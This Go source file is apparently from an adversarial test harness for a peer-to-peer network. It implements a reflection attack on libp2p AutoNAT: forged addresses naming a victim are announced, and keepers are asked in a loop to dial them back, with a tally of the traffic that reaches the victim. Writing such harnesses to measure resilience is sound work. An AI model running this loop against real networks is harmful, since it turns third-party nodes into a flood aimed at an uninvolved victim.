package hostile

import (
	"context"
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	autonat "github.com/libp2p/go-libp2p/p2p/host/autonat"
	ma "github.com/multiformats/go-multiaddr"

	"github.com/gantry-market/gantry/internal/wait"
)

// reflection announces a victim's addresses, and asks keepers to see whether they can be reached. What comes to the
// victim counts; two keepers have its address on chain besides.
func reflection(ctx context.Context, a *attacker, to target, t *tally) {
	var addrs []ma.Multiaddr
	for i := range 16 {
		m, err := ma.NewMultiaddr(fmt.Sprintf("/ip4/%s/tcp/%d", a.Victim, victimPort+i%2))
		if err != nil {
			return
		}
		addrs = append(addrs, m)
	}
	announce := libp2p.AddrsFactory(func([]ma.Multiaddr) []ma.Multiaddr { return addrs })
	for ctx.Err() == nil {
		h := a.dialed(ctx, to, t, announce)
		if h != nil {
			t.took(a.dialBack(ctx, h, to))
			_ = h.Close() // who looks for it now has the victim's addresses only
		}
		_ = wait.For(ctx, time.Duration(100+rand.IntN(200))*time.Millisecond)
	}
}

// dialBack asks a keeper to dial the addresses that it was told.
func (a *attacker) dialBack(ctx context.Context, h host.Host, to target) error {
	ctx, cancel := context.WithTimeout(ctx, 3*time.Second)
	defer cancel()
	return autonat.NewAutoNATClient(h, nil, nil).DialBack(ctx, to.ID)
}
